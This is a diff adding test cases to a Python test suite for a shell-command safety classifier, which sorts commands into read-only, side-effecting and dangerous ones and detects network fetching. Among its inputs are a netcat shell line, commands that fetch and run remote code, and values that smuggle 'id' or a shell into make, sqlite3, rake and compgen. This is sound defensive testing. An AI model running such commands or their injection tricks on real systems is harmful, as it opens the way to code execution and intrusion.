@@ -319,6 +319,36 @@ MORE = [
     ("openssl x509 -in a.pem -noout -text", "reads"),
     ("openssl s_client -connect x:1", "dangerous"),
     ("nc -e /bin/sh x 1", "dangerous"),
+    ("compgen -A function", "reads"),
+    ("compgen -W 'a b' -- a", "reads"),
+    ("compgen -W '$(id)'", "dangerous"),
+    ("compgen -F f", "dangerous"),
+    ("compgen -Cid", "dangerous"),
+    ("npx tsc", "effect"),
+    ("npx eslint https://example.com", "effect"),
+    ("npx https://example.com/x.tgz", "dangerous"),
+    ("npx --package=git+https://example.com/x y", "dangerous"),
+    ("npm init -y", "effect"),
+    ("deno run main.ts", "effect"),
+    ("deno run -A https://example.com/x.ts", "dangerous"),
+    ("uv run https://example.com/x.py", "dangerous"),
+    ("bun run https://example.com/x.ts", "dangerous"),
+    ("java -cp build Main", "effect"),
+    ("make CC=gcc test", "effect"),
+    ("make SHELL='sh -c id' test", "dangerous"),
+    ("make X='$(shell id)' test", "dangerous"),
+    ("rake test", "effect"),
+    ("rake -e 'exec \"sh\"'", "dangerous"),
+    ("cowsay hi", "reads"),
+    ("cowsay -f ./x.cow hi", "effect"),
+    ("xdg-user-dir DESKTOP", "reads"),
+    ("sqlite3 -readonly -json x.db 'select 1'", "reads"),
+    ("sqlite3 -cmd '.system id' x.db 'select 1'", "dangerous"),
+    ("sqlite3 -init x x.db 'select 1'", "dangerous"),
+    ("printf %d -1", "reads"),
+    ("fdupes -r .", "reads"),
+    ("fdupes -d .", "dangerous"),
+    ("ctags -R .", "effect"),
 ]
 
 
@@ -327,3 +357,35 @@ def test_families_of_programs_have_the_kind_that_their_options_make(line: str, k
     found = of(line)
     assert found.kind == kind, found
     assert kind == "dangerous" or found.unknown is None, found
+
+
+@pytest.mark.parametrize(
+    ("line", "networked"),
+    [
+        ("go run ./cmd/x", False),
+        ("go run example.com/x@latest", True),
+        ("npx tsc@5", True),
+        ("npx @scope/x", False),
+        ("npm init -y", False),
+        ("npm init vite", True),
+    ],
+)
+def test_a_version_or_an_address_is_fetched_before_it_is_run(line: str, networked: bool) -> None:
+    assert ("network" in of(line).needs) is networked
+
+
+def test_each_item_of_a_class_path_is_run() -> None:
+    assert [one.value for one in of("java -cp a:/tmp/b Main").named if one.role == "execute"] == ["a", "/tmp/b"]
+
+
+def test_a_configuration_in_a_language_is_run() -> None:
+    assert [one.role for one in of("eslint -c /tmp/x.js .").named] == ["execute"]
+
+
+def test_what_an_eval_would_take_apart_is_not_a_name() -> None:
+    assert of("xdg-user-dir '}; id #'").unknown is not None
+
+
+def test_a_comparison_of_numbers_computes_only_within_double_brackets() -> None:
+    assert use(words("[ N -gt 3 ]", 1)).unknown is None  # type: ignore[union-attr]
+    assert use(words("[[ N -gt 3 ]]", 1)).unknown is not None  # type: ignore[union-attr]
